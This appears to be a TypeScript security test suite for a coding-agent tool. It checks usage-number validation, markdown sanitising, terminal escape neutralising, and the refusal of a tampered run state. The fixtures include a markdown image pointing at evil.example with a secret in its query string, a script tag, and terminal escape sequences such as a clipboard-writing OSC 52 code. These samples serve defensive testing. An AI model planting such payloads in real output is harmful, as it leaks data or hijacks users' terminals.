import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { scriptedModel } from '../../fakes/scriptedModel';
import { snapshotCheckout } from '../../fixtures/fixtureRepo';
import { engineKit } from '../engineTestKit';
import { requireSandbox } from './requireSandbox';
import { validUsage } from '../../../src/core/models/validUsage';
import { sanitizeForTerminal, sanitizeMarkdown } from '../../../src/core/pipeline/sanitizeText';
import { fixtureTicket } from '../../fixtures/fixtureTicket';

suite('security: limits and checks', () => {
  test('impossible usage from a server is billed as 0 and named, never stored as is', () => {
    const r = validUsage({ inputTokens: -5_000_000, outputTokens: 12.5, cacheWriteTokens: Number.NaN, cacheReadTokens: 1e12, thinkingTokens: 3 });
    assert.deepEqual(r.usage, { inputTokens: 0, outputTokens: 0, cacheWriteTokens: 0, cacheReadTokens: 0 });
    assert.equal(r.problems.length, 5, r.problems.join('; '));
    const ok = validUsage({ inputTokens: 120, outputTokens: 30, cacheWriteTokens: 0, cacheReadTokens: 900, thinkingTokens: 10 });
    assert.deepEqual(ok, { usage: { inputTokens: 120, outputTokens: 30, cacheWriteTokens: 0, cacheReadTokens: 900, thinkingTokens: 10 }, problems: [] });
  });

  test('deliverables lose remote images and active HTML; local images stay', () => {
    const md = '# Spec\n![chart](https://evil.example/p.png?d=SECRET)\n![local](docs/a.png)\n<img src="https://evil.example/x">\n<script>alert(1)</script>\n![r][ref]\n';
    const out = sanitizeMarkdown(md);
    assert.doesNotMatch(out, /!\[chart\]\(https/);
    assert.doesNotMatch(out, /<img|<script/i);
    assert.doesNotMatch(out, /!\[r\]\[ref\]/);
    assert.match(out, /!\[local\]\(docs\/a\.png\)/);
    assert.match(out, /image not loaded: chart/);
  });

  test('terminal text keeps lines but shows escape sequences instead of running them', () => {
    const hostile = 'ok\n\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x1b]8;;https://evil\x1b\\link\x1b]8;;\x1b\\\r\u009b31m\u202Eend';
    const out = sanitizeForTerminal(hostile);
    assert.doesNotMatch(out, /[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u202e]/);
    assert.match(out, /^ok\n\^\[\]52;c;/);
  });
});

suite('security: a tampered run state cannot point resume or finish at the user\'s checkout', function () {
  this.timeout(120_000);
  test('finish and resume refuse a state whose worktree is the checkout; the checkout stays byte-identical', async function () {
    await requireSandbox(this);
    const kit = await engineKit({ ollama: scriptedModel().responder });
    try {
      const ticket = fixtureTicket('feature-add-subtract.md');
      const s = await kit.engine.run(ticket);
      assert.equal(s.state, 'ready', s.reason);
      const file = join(kit.repo.dir, '.git', 'shipwright', 'runs', s.ticket.id, 'state.json');
      const state: { worktree: { path: string; branch: string } } = JSON.parse(readFileSync(file, 'utf8'));
      for (const tamper of [{ path: kit.repo.dir, branch: 'main' }, { path: kit.repo.dir, branch: state.worktree.branch }]) {
        writeFileSync(file, JSON.stringify({ ...state, worktree: { ...state.worktree, ...tamper } }));
        const before = snapshotCheckout(kit.repo.dir);
        await assert.rejects(kit.engine.finish(s.ticket.id, [], 'merge'), /does not point at its own worktree/);
        await assert.rejects(kit.engine.resume(s.ticket.id), /does not point at its own worktree/);
        assert.deepEqual(snapshotCheckout(kit.repo.dir), before);
      }
    } finally {
      await kit.close();
    }
  });
});

